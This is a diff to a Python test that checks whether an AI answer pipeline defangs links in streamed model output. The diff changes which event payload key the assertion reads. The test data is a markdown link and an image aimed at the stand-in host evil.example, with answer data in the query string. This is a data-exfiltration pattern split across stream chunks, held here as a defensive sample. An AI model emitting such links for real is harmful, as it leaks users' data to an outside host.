@@ -133,7 +133,7 @@ async def test_a_link_that_no_source_holds_is_broken_on_every_way_out(library: C
     model.pieces = ["It weighs 3450 grams [1]. [More](http", "s://evil.exam", "ple/?d=3450) ![x](https://evil.example)"]
     answer, events = await ask()
     text = "It weighs 3450 grams [1]. [More] (https: //evil[.]example/?d=3450) ![x] (https: //evil[.]example)"
-    assert answer.text == text == events[-1].payload["text"]
+    assert answer.text == text == events[-1].payload["answer"]
     assert "".join(event.payload["text"] for event in events if event.name == "token") == text
     html = answer_body(await sync_to_async(build_turn)(answer))
     assert "href" not in html.replace('href="/documents/', "")
